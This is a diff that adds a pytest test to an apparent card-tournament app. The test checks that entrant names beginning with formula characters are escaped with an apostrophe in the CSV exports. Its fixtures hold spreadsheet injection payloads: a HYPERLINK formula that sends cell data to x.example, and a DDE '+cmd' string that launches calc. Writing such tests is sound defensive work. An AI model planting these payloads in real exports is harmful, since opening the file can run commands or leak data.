@@ -131,3 +131,32 @@ def test_an_earlier_round_stays_reachable_with_its_results_and_sheets(client, pl
         assert f"{page}/rounds/1/{sheet}" in html
     assert f"{page}/standings.pdf?after=1" in html
     assert client.get(f"{page}/rounds/9").status_code == 404
+
+
+FORMULAS = [("=HYPERLINK(\"http://x.example/?\"&A1,\"Prizes\")", ["=1+1", "Ana"]),
+            ("+cmd|' /C calc'!A0", ["@SUM(A1:A9)", "Ivo"]), ("-2+3", ["\tTab", "\rReturn"]),
+            ("Mia & Tin", ["Mia", "Tin"])]
+
+
+def test_a_name_written_as_a_formula_opens_as_text_in_a_spreadsheet(client):
+    """A name that a spreadsheet would run (= + - @, a tab or a carriage return first) is written
+    with a leading apostrophe, which the spreadsheet hides: the name reads as typed, runs nothing;
+    figures (a negative difference) stay numbers."""
+    ev = Evening(client, {"title": "Petak", "variant": "bela-hr-4", "format": "swiss", "rounds": 2,
+                          "seed": 5, "options": {"target": 301},
+                          "entrants": [{"name": n, "players": p} for n, p in FORMULAS]})
+    ev.draw()
+    ev.play_round()
+    page = ev.url.replace("/api/v1", "")
+    standings = rows_of(client.get(f"{page}/standings.csv"))
+    results = rows_of(client.get(f"{page}/results.csv"))
+    cells = [c for row in standings[1:] + results[1:] for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
+    names = {r[2] for r in standings[1:]}
+    assert names == {"'" + n for n, _ in FORMULAS[:3]} | {"Mia & Tin"}
+    assert "'=1+1 & Ana" in {r[3] for r in standings[1:]}
+    assert "'\tTab & \rReturn" in {r[3] for r in standings[1:]}
+    differences = [int(r[11]) for r in standings[1:]]
+    assert min(differences) < 0, "a negative difference is still a number"
+    assert {r[2] for r in results[1:]} | {r[3] for r in results[1:]} <= names | {""}
